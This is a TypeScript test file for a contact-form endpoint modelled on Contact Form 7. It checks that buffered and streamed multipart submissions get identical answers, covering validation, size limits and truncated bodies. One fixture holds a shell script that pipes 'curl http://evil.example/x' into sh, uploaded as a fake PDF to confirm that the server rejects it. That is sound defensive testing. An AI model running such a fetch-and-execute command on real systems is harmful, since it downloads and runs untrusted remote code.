// The two ways a feedback body is read: whole, when its Content-Length is small (buffered-parts.ts),
// and as it streams, when it is large or chunked. The same bodies, sent both ways over a real
// socket, get the same answers, the limits included.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BUFFERED_BODY_LIMIT } from '../../../server/contact-form/buffered-parts.ts';
import { multipartLimits } from '../../../server/contact-form/multipart-limits.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { testDialect } from '../helpers/test-db.ts';
import { DEFAULT_USER_AGENT } from '../helpers/multipart.ts';
import { testForms, validContactFields } from '../helpers/test-forms.ts';

let testApp: TestApp;
let base: string;

beforeAll(async () => {
  testApp = await createTestApp({ MAIL_TO: 'sales@example.co.za' }, { forms: testForms });
  base = await testApp.app.listen({ port: 0, host: '127.0.0.1' });
});

afterAll(async () => {
  await testApp.cleanup();
});

const PDF = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x20), Buffer.from('\n%%EOF\n')]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const fieldsLimit = multipartLimits(testForms[0]!).fields;

function formOf(build: (form: FormData) => void): FormData {
  const form = new FormData();
  build(form);
  return form;
}

const contactForm = (extra: (form: FormData) => void = () => undefined, overrides: Record<string, string> = {}) =>
  formOf((form) => {
    for (const [name, value] of Object.entries(validContactFields(overrides))) form.append(name, value);
    extra(form);
  });

const file = (bytes: Buffer, name: string) => new File([new Uint8Array(bytes)], name, { type: 'application/pdf' });

async function encode(form: FormData): Promise<{ body: Buffer; type: string }> {
  const response = new Response(form);
  return { body: Buffer.from(await response.arrayBuffer()), type: response.headers.get('content-type') ?? '' };
}

/** The answer's status and body, without what differs from one submission to the next. */
async function post(body: Buffer, type: string, streamed: boolean): Promise<{ status: number; answer: Record<string, unknown> }> {
  const response = await fetch(`${base}/wp-json/contact-form-7/v1/contact-forms/5/feedback`, {
    method: 'POST',
    headers: { 'content-type': type, 'user-agent': DEFAULT_USER_AGENT },
    // A stream has no length: fetch sends it chunked, without Content-Length.
    body: streamed ? new Blob([new Uint8Array(body)]).stream() : new Uint8Array(body),
    duplex: 'half',
  } as RequestInit);
  const answer = (await response.json()) as Record<string, unknown>;
  delete answer.posted_data_hash;
  return { status: response.status, answer };
}

const cases: Array<[string, () => Promise<{ body: Buffer; type: string }>, number, string]> = [
  ['a submission with no file chosen', () => encode(contactForm((form) => form.append('your-file', new File([], ''), ''))), 200, 'mail_sent'],
  ['a submission with a PDF', () => encode(contactForm((form) => form.append('your-file', file(PDF, 'brief.pdf')))), 200, 'mail_sent'],
  ['a script posing as a PDF', () => encode(contactForm((form) => form.append('your-file', file(SCRIPT, 'brief.pdf')))), 200, 'validation_failed'],
  ['a file under a name that is not a file field', () => encode(contactForm((form) => form.append('your-notes', file(PDF, 'x.pdf')))), 200, 'mail_sent'],
  ['an invalid address', () => encode(contactForm(undefined, { 'your-email': 'not an address' })), 200, 'validation_failed'],
  ['one field more than the form takes', () => encode(contactForm((form) => Array.from({ length: fieldsLimit }, (_, index) => form.append(`extra-${index}`, 'x')))), 413, 'wpcf7_too_many_fields'],
  ['two files in one file field', () => encode(contactForm((form) => [1, 2].forEach((index) => form.append('your-file', file(PDF, `${index}.pdf`))))), 413, 'wpcf7_too_many_files'],
  [
    'a part more than fields and files together',
    () => encode(formOf((form) => {
      for (let index = 0; index < fieldsLimit; index += 1) form.append(`f-${index}`, 'x');
      [1, 2].forEach((index) => form.append('your-file', file(PDF, `${index}.pdf`)));
    })),
    413,
    'wpcf7_too_many_parts',
  ],
  ['a field name longer than any field has', () => encode(contactForm((form) => form.append('n'.repeat(201), 'x'))), 413, 'wpcf7_field_too_large'],
  [
    'a body cut short',
    async () => {
      const { body, type } = await encode(contactForm());
      return { body: body.subarray(0, body.length - 40), type };
    },
    400,
    'wpcf7_invalid_multipart',
  ],
];

describe(`a feedback body read whole and read as it streams, on ${testDialect}`, () => {
  it.each(cases)('answers %s the same either way', async (_name, make, status, outcome) => {
    const { body, type } = await make();
    expect(body.length).toBeLessThanOrEqual(BUFFERED_BODY_LIMIT);
    const whole = await post(body, type, false);
    const streamed = await post(body, type, true);
    expect(whole.status).toBe(status);
    expect(status === 200 ? whole.answer.status : whole.answer.code).toBe(outcome);
    expect(streamed).toEqual(whole);
  });
});
